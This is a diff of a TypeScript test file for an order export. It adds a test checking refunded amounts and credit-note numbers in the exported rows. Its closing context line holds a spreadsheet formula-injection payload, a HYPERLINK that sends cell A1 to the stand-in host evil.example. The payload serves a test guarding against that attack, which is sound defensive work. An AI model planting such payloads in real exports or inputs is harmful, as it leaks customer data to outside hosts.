@@ -35,6 +35,33 @@ describe('the export of orders', () => {
     expect(new Set(rows.slice(1).map((row) => row[6]))).toEqual(new Set(['failed']))
   })
 
+  it('says what was given back of an order, and by which credit notes', async () => {
+    const { pool } = api.database
+    const customerId = await addCustomer(api.database)
+    const lines = [{ product: await addProduct(api.database) }]
+    const { id, orderNumber } = await addOrder(api.database, { customerId, lines, payment: 'paid' })
+    for (const [serial, state] of (['confirmed', 'refused', 'confirmed'] as const).entries()) {
+      const values = [`${id}-r${serial}`, id, 7_050]
+      await pool.query(
+        `insert into refunds (id, order_id, amount_satang, shipping_satang, is_excess, reason, asked_by, state, refusal, confirmed_at)
+         values ($1, $2, $3, 0, false, 'broken', 'staff', $4::text, case when $4 = 'refused' then 'closed' end,
+           case when $4 = 'confirmed' then now() end)`,
+        [...values, state],
+      )
+      if (state === 'confirmed')
+        await pool.query(
+          `insert into credit_notes (refund_id, order_id, month, serial, original_satang, corrected_satang)
+           values ($1, $2, '0001', $4, 25000, 25000 - $3)`,
+          [...values, serial + 1],
+        )
+    }
+    const { rows } = await download(`keyword=${orderNumber}`)
+    expect(rows.map((row) => row.slice(15))).toEqual([
+      ['คืนเงินแล้ว', 'ใบลดหนี้'],
+      ['141.00', 'PHC-0001-00001 PHC-0001-00003'],
+    ])
+  })
+
   it('lets no name become a formula', async () => {
     const customerId = await addCustomer(api.database)
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
